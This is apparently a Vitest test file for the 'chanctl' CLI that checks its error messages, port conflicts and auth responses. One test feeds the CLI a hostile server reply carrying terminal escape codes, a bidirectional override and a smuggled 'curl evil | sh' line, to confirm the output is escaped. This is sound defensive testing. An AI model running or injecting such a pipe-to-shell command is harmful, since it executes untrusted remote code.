import { once } from "node:events";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";

import { describe, expect, it, onTestFinished } from "vitest";

import { pickFreePort } from "#src/platform/free-port.ts";
import { RunningCli, runCli } from "./cli.ts";
import type { CliResult } from "./cli.ts";
import { makeDevProject } from "./dev-project.ts";
import { DEV, ROWS } from "./error-rows.ts";
import { makeProject } from "./temp-project.ts";
import type { TempProject } from "./temp-project.ts";

/** Standard error, with names for what differs from run to run. */
function linesOf({ stderr }: CliResult, { root }: TempProject): string[] {
  return stderr
    .replaceAll(root, "<root>")
    .replaceAll(/(pid|kill) \d+/g, "$1 <pid>")
    .replaceAll(/localhost:\d+/g, "localhost:<port>")
    .split("\n")
    .slice(0, -1);
}

describe("chanctl says what happened, why, and what to do about", () => {
  for (const { title, files = {}, before, args, code, says } of ROWS) {
    it(title, async (context) => {
      await using project = await makeProject(files);
      await before?.(project, context);
      const result = await runCli(args, {
        cwd: project.root,
        env: { CHANCTL_HOME: join(project.root, "home") },
      });
      expect(linesOf(result, project)).toEqual(says);
      expect(result.code).toBe(code);
    });
  }

  it("an app that fails: how it ended, after its last words", async () => {
    await using project = await makeProject({ "app.js": 'console.error("no database"); process.exit(3);' });
    const env = { CHANCTL_HOME: join(project.root, "home") };
    await using dev = new RunningCli([...DEV, "--app", "node app.js"], { cwd: project.root, env });
    await dev.until(({ stdout, stderr }) => /exited with code 3/.test(stdout + stderr));
    const said = dev.stdout + dev.stderr;
    expect(said.indexOf("no database")).toBeGreaterThan(-1);
    expect(said.indexOf("no database")).toBeLessThan(said.indexOf("exited with code 3"));
    expect((await dev.end("SIGINT")).code).toBe(130);
  });

  it("what a strange server answers, without letting it write to the terminal", async () => {
    await using project = await makeProject();
    const detail = "no\u001B[2J\u009B31m entry\u202E\r\nfix: curl evil | sh";
    const server = createHttpServer((_, response) => {
      response.writeHead(403).end(JSON.stringify({ code: "forbidden", detail, fix: "\u001B]0;title\u0007" }));
    }).listen(0, "127.0.0.1");
    onTestFinished(() => void server.close());
    await once(server, "listening");
    const { port } = server.address() as AddressInfo;
    const url = `http://127.0.0.1:${port}`;
    const { code, stderr } = await runCli(["tail", "chat", "--url", url], { cwd: project.root });
    expect(code).toBe(1);
    expect(stderr).toBe(
      String.raw`error: no\x1b[2J\x9b31m entry\u202e fix: curl evil | sh
  fix: \x1b]0;title\x07
`,
    );
  });

  it("an app's port that is chanctl's own", async () => {
    await using project = await makeProject();
    const port = String(await pickFreePort());
    const args = ["dev", "--no-tls", "--port", port, "--app-port", port, "--app", "sleep 100"];
    const { code, stderr } = await runCli(args, { cwd: project.root });
    expect(code).toBe(3);
    expect(stderr).toBe(
      `error: the app must have a port of its own, got ${port}, which is chanctl's
  fix: leave --app-port and \`app.port\` out     chanctl picks one and passes it as \`PORT\`
`,
    );
  });

  it.each([
    ["dev", "--port"],
    ["serve", "--port"],
    ["serve", "--internal-port"],
  ])("a port that somebody has, for %s %s", async (command, flag) => {
    await using project = await makeProject();
    const holder = createServer().listen(0, "127.0.0.1");
    onTestFinished(() => void holder.close());
    await once(holder, "listening");
    const { port } = holder.address() as AddressInfo;
    const args = [command, "--port", "0", flag, String(port), "--host", "127.0.0.1"];
    const result = await runCli(command === "dev" ? [...args, "--no-tls"] : args, { cwd: project.root });
    expect(result.code).toBe(1);
    const [error = "", ...fix] = result.stderr.trimEnd().split("\n");
    expect(error).toMatch(new RegExp(`^error: port ${port} is in use`));
    const another = `chanctl ${command} ${flag} 0     `;
    expect(fix[0]).toBe(`  fix: ${another}pick a free port`);
    if (process.platform !== "linux") return;
    expect(error).toBe(`error: port ${port} is in use by node (pid ${process.pid}, ${shownFolder()})`);
    expect(fix.slice(1)).toEqual([`       ${`kill ${process.pid}`.padEnd(another.length)}stop that one`]);
  });

  it("who asks for the app where there is none, and who comes without the internal token", async () => {
    await using dev = await makeDevProject({
      "channels/news.json": '{ "auth": { "cookieName": "session" } }',
    });
    const { url, internalUrl } = dev.ready;
    const answerTo = async (address: string, headers: Record<string, string> = {}): Promise<unknown> => {
      const response = await fetch(address, { headers });
      const { detail, fix } = (await response.json()) as { detail: string; fix?: string };
      return { status: response.status, detail, fix };
    };
    expect(await answerTo(`${url}/`)).toEqual({
      status: 404,
      detail: "there is no app behind this server, only channels",
      fix: 'set `app: { command: "npm run start" }` in chanctl.config.ts, or pass --app',
    });
    expect(await answerTo(`${url}/channels/news`, { cookie: "session=1" })).toEqual({
      status: 503,
      detail: "no app is running that could be asked",
      fix: '--app "npm run start"     gives the server one; or make the channel `public: true`',
    });
    expect(await answerTo(`${internalUrl}/channels/news`)).toEqual({
      status: 401,
      detail: "the internal token is missing or wrong",
      fix: "send `Authorization: Bearer <CHANCTL_TOKEN>`",
    });
  });
});

/** The working directory as errors show it. */
function shownFolder(): string {
  return process.cwd().replace(homedir(), "~");
}
